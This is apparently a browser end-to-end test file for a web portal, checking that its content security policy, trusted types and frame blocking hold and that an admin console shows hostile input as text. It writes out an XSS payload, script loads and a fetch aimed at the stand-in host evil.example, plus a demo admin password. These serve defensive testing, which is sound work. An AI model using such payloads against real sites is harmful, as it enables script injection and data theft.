import { expect, test } from '../kit/world.ts';

test('[PUB-25] the content security policy stops what would get past the sanitiser, and says so', async ({
  page,
  violations,
}) => {
  const answer = await page.goto('/home');
  // The hashes are those of the scripts that run before the first paint, and of the page's styles.
  expect(answer?.headers()['content-security-policy']).toMatch(
    /script-src 'self'(?: 'sha256-[\w+/]{43}='){2}; style-src 'self' 'sha256-[\w+/]{43}=';/,
  );
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    const tries = {
      // As markup that a parser reads: neither policy nor trusted type lets it in.
      markup: () => document.body.insertAdjacentHTML('beforeend', '<b id="markup">x</b>'),
      text: () => {
        script.textContent = 'window.hacked = true';
      },
      address: () => {
        script.src = 'https://evil.example/x.js';
      },
      policy: () => window.trustedTypes?.createPolicy('mine', { createScriptURL: (url) => url }),
    };
    const thrown = Object.entries(tries).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [];
      } catch {
        return [name];
      }
    });
    const style = document.createElement('style');
    style.append('body { display: none }');
    document.head.append(style);
    const sent = await fetch('https://evil.example/?words').then(
      () => true,
      () => false,
    );
    return {
      thrown,
      sent,
      hacked: 'hacked' in window,
      hidden: getComputedStyle(document.body).display === 'none',
    };
  });
  expect(ran).toEqual({
    thrown: ['markup', 'text', 'address', 'policy'],
    sent: false,
    hacked: false,
    hidden: false,
  });
  await expect.poll(() => violations.length).toBeGreaterThan(5);
  violations.splice(0);
});

test('no other page can hold the portal in a frame', async ({ page, baseURL, violations }) => {
  for (const address of ['/member/logon', '/home', '/admin/login', '/__console/people']) {
    const refused = page.waitForEvent(
      'requestfailed',
      (request) => request.url() === baseURL + address,
    );
    await page.setContent(`<iframe src="${baseURL}${address}"></iframe>`);
    expect((await refused).failure()?.errorText).toContain('ERR_BLOCKED_BY_RESPONSE');
  }
  await expect.poll(() => violations.length).toBeGreaterThan(3);
  violations.splice(0);
});

test('what strangers write is text in the console', async ({ page, world, context }) => {
  const marked = '<img src=x onerror=alert(1)>';
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.request.get('/api/info/manu');
  const csrf = (await context.cookies()).find(({ name }) => name === 'XSRF-TOKEN')?.value ?? '';
  await page.request.post(`/api/member/auth/login?x=${marked}`, {
    headers: { 'X-CSRF-TOKEN': csrf },
    data: { membership_no: marked, mem_password: 'x', remember: false },
  });
  const form = { admin: 'admin', password: 'demo1234', membership_no: '4', token: csrf };
  await page.request.post('/admin/login', { form: { ...form, reason: marked } });
  await page.goto('/member/impersonate');
  await expect(page.getByText(/^ดูในนาม .* \(เลขทะเบียน 0004\)$/)).toBeVisible();

  await page.goto(`/__console/journal?world=${world}`);
  const call = page.getByRole('button', { name: /POST .*auth\/login\?x=/ });
  await call.click();
  await expect(page.getByText(`"membership_no": "${marked}"`)).toBeVisible();
  await expect(page.locator('img[src=x]')).toHaveCount(0);
  await page.goto(`/__console/sessions?world=${world}`);
  await expect(page.getByRole('cell', { name: marked }).first()).toBeVisible();
  await expect(page.locator('img[src=x]')).toHaveCount(0);
  expect(dialogs).toEqual([]);
});
